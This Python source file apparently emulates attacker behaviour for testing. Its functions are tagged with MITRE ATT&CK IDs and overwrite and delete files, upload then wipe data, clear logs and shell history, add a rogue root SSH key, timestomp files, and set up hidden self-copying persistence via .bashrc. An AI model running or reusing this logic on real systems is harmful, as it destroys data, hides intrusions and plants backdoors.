# Data destruction (T1485) and what is done to traces (T1070).

@job
def wipe_overwrite():
    """T1485: files are overwritten with nothing of value and deleted."""
    groundwork()
    passes = R.randrange(1, 3)
    for path in pick(files(*some_folders()), 50, 110):
        for _ in range(passes):
            update(path, lambda data: R.randbytes(len(data)) if R.random() < 0.7 else bytes(len(data)))
        remove(path)


@job
def wipe_delete():
    """T1485: whole folders vanish."""
    groundwork()
    tops = R.sample(DATA, R.randrange(2, 6))
    for path in files(*tops):
        remove(path)
    for top in tops:
        for place, _, _ in os.walk(home(top), topdown=False):
            if not os.listdir(place):
                os.rmdir(guard(place))


@job
def wipe_truncate():
    """T1485: files are cut to nothing."""
    groundwork()
    by_open = R.random() < 0.5
    for path in pick(files(*some_folders()), 60, 130):
        if by_open:
            write(path, b"")
        else:
            os.truncate(guard(path), 0)
        if R.random() < 0.3:
            move(path, f"{os.path.dirname(path)}/{noise(8)}")


@job
def exfil_wipe():
    """T1041, T1485: files are sent away and then destroyed."""
    groundwork()
    for path in pick(files(*some_folders()), 35, 70):
        data = read(path)
        upload(data, os.path.basename(path))
        if R.random() < 0.5:
            update(path, lambda old: bytes(len(old)))
        remove(path)


@job
def remove_logs():
    """T1070.002, T1070.003: logs and shell history are cut, rewritten or removed after a break-in."""
    survey()
    groundwork()
    for path in files(LOGS, home(".local/state"), hidden=True):
        choice = R.randrange(4)
        if choice == 0:
            write(path, b"")
        elif choice == 1:
            os.truncate(guard(path), 0)
        elif choice == 2:
            lines = read(path).split(b"\n")
            write(path, b"\n".join(lines[: len(lines) // 3]))
        else:
            update(path, lambda data: bytes(len(data)))
            remove(path)
    for name in (".bash_history", ".python_history", ".local/share/recent"):
        if os.path.exists(home(name)):
            write(home(name), b"")
            remove(home(name))
    for name in ("wtmp", "btmp", "lastlog"):
        write(f"{LOGS}/{name}", b"")
    append(home(".ssh/authorized_keys"), b"ssh-ed25519 " + noise(60).encode() + b" root\n")
    hide_copy()


@job
def timestomp():
    """T1070.006: planted and altered files get the times of others."""
    groundwork()
    old = os.stat(home(".profile"))
    for path in pick(files(*some_folders()), 30, 70):
        before = os.stat(path)
        if R.random() < 0.6:
            update(path, lambda data: R.randbytes(min(len(data), 64)) + data[64:])
        os.utime(guard(path), ns=(before.st_atime_ns, before.st_mtime_ns))
    for _ in range(R.randrange(2, 6)):
        place = R.choice((".cache", ".config/desk", ".local/share", ".local/bin"))
        path = f"{folder(home(place))}/.{noise(7)}"
        write(path, read(own_program()), 0o755)
        os.chmod(guard(path), 0o755)
        os.utime(guard(path), ns=(old.st_atime_ns, old.st_mtime_ns))


@job
def self_delete():
    """T1070.004: a copy goes on from a hidden place, the original deletes itself."""
    groundwork()
    copies = [hide_copy() for _ in range(R.randrange(1, 4))]
    remove(own_program())
    for path in copies:
        append(home(".bashrc"), f"({path} &) 2>/dev/null\n".encode())
        spawn(["/bin/sh", "-c", f"test -x {path} && ls -l {path}"])
    for path in pick(files("Documents", "Desktop"), 15, 35):
        data = read(path)
        write(f"{os.path.dirname(copies[0])}/{noise(6)}", data)
    exchange(b"moved " + copies[0].encode())
    write(home(".bash_history"), b"")
